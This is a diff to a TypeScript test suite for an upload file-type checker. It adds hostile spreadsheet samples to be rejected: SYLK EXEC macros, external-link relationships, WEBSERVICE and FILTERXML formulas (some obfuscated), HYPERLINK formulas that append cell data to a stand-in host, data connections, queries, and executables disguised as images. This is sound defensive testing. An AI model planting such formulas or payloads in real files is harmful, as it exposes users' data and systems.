@@ -39,6 +39,12 @@ const rels = (type: string) =>
     "xl/worksheets/_rels/s.xml.rels",
     `<Relationship Type="http://x/relationships/${type}" Target="../media/a.bin"/>`,
   );
+const external = (type: string, target: string) =>
+  part(
+    "xl/a/_rels/a.xml.rels",
+    `<Relationship Id="r1" Target="${target}" TargetMode="External" Type="http://x/relationships/${type}"/></Relationships>`,
+  );
+const formula = (text: string) => part("xl/worksheets/sheet1.xml", `<c><f>${text}</f></c>`);
 const plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
 const macros = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
 
@@ -53,7 +59,8 @@ it.each([
   ["XLSX", xlsx],
   ["CSV", text("month,hours\r\nMay,168\r\n")],
   ["CSV", text("month;hours\nMay;<168\n")],
-  ["CSV", text("ID;Payroll number;Hours\nC;Smith;5\nF;K. Evans;7\nE;Lee;8\n")],
+  ["CSV", text("No.;Payroll number;Hours\nC;Smith;5\nF;K. Evans;7\nE;Lee;8\n")],
+  ["CSV", text("id;Hours\n5;7\n")],
   ["CSV", text("Hours <head count>,<body lotion>\n1,2\n")],
   ["CSV", Buffer.from("﻿Name\tHours\nZoë\t5\n", "utf16le")],
   ["CSV", Buffer.from([...text("name,hours\nZo"), 0xeb, ...text(",5\n")])],
@@ -82,6 +89,8 @@ it.each([
   ["a program", signed("4d5a9000")],
   ["macros in a text", text("ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(1,2)\r\nE\r\n")],
   ["an old spreadsheet in a text", text('ID;PSCALC3\nB;Y1;X2\nC;Y1;X1;K"Name"\nC;X2;K5\nE\n')],
+  ["macros in a text in small letters", text("ID;P\r\nO;E\r\nc;y1;x1;eEXEC(1)\r\n")],
+  ["a table that programs take for an old spreadsheet", text("ID;Payroll number;Hours\nC;Smith;5\n")],
   ["an old workbook", signed("d0cf11e0a1b11ae1")],
   ["a GIF", text("GIF89a,,,")],
   ["a PDF with a script", text(`%PDF-1.7\n1 0 obj\n${script}\nendobj\n%%EOF\n`)],
@@ -142,6 +151,31 @@ it.each([
     "a sheet in an encoding that hides it",
     zipOf([sheet, workbook, { name: "xl/a.xml", bytes: Buffer.from("\ufeff<ddeLink />", "utf16le") }]),
   ],
+  ["a workbook that loads another", zipOf([sheet, workbook, external("externalLinkPath", "file:////x.example/a")])],
+  ["a workbook that loads a picture", zipOf([sheet, workbook, external("image", "http://x.example/a>b.png")])],
+  [
+    "a link that pretends to be for a reader",
+    zipOf([sheet, workbook, external("image", "x?Type='/relationships/hyperlink'")]),
+  ],
+  ["a relation in two pieces", zipOf([sheet, workbook, external("image", `${" ".repeat(70_000)}http://x.example`)])],
+  ["a workbook that asks a site", zipOf([sheet, workbook, formula("_xlfn.WEBSERVICE(A1)")])],
+  ["a workbook that asks a site in letters apart", zipOf([sheet, workbook, formula("WEB<!-- -->SERVICE(A1)")])],
+  ["a workbook that asks a site in numbered letters", zipOf([sheet, workbook, formula("&#x57;EBSERVICE(A1)")])],
+  ["a workbook that asks a site by a filter", zipOf([sheet, workbook, formula("filterxml(A1,B1)")])],
+  ["a link made of cells", zipOf([sheet, workbook, formula('HYPERLINK("http://x.example?"&amp;A1,"Pay")')])],
+  [
+    "a link made of cells by a function",
+    zipOf([sheet, workbook, formula('HYPERLINK(CONCAT("http://x.example?",A1))')]),
+  ],
+  [
+    "a link made of cells between two pieces",
+    zipOf([sheet, workbook, part("xl/a.xml", `${" ".repeat(65_520)}<f>HYPERLINK(&quot;a&quot;&amp;A1)</f>`)]),
+  ],
+  ["a workbook with connections", zipOf([sheet, workbook, part("xl/connections.xml", "<connections/>")])],
+  ["connections under another name", zipOf([sheet, workbook, part("xl/a.xml"), rels("connections")])],
+  ["a workbook with a query", zipOf([sheet, workbook, part("customXml/item1.xml", '<DataMashup xmlns="x">')])],
+  ["a program among pictures", zipOf([sheet, workbook, part("xl/media/a.exe")])],
+  ["a program in a picture", zipOf([sheet, workbook, part("xl/media/a.png", "MZ\u0090")])],
   ["a workbook with a program beside it", zipOf([sheet, workbook, part("evil.exe")])],
   ["a workbook with a path", zipOf([sheet, workbook, { name: "../../evil", bytes: Buffer.from("x") }])],
   ["a workbook that unpacks to a gigabyte", zipOf([sheet, { ...workbook, declared: 1_000_000_000 }])],
@@ -178,6 +212,13 @@ it("takes what spreadsheets and the portal make", async () => {
   for (const pdfBytes of await Promise.all(made)) expect(await findKind(pdfBytes, "a.pdf")).toEqual({ kind: "PDF" });
   const linked = [sheet, workbook, part("xl/drawings/drawing1.xml", "<a>ddeLink and oleLink</a>"), rels("hyperlink")];
   expect(await findKind(zipOf(linked), "a.xlsx")).toEqual({ kind: "XLSX" });
+  for (const address of ['"http://x.example?a&amp;b","Pay"', "A1", "&quot;#Sheet2!A1&quot;,B1", "Sheet2!$A$1"])
+    expect(
+      await findKind(
+        zipOf([sheet, workbook, formula(`HYPERLINK(${address})`), external("hyperlink", "http://x.example?a=1")]),
+        "a.xlsx",
+      ),
+    ).toEqual({ kind: "XLSX" });
   expect(await findKind(await workbookOf([["Name"], ["Zoë"]]), "a.xlsx")).toEqual({ kind: "XLSX" });
   const pictures = "docs/pictures/dashboard-pension-1280.png";
   expect(await findKind(readFileSync(pictures), "a.png")).toEqual({ kind: "PNG" });
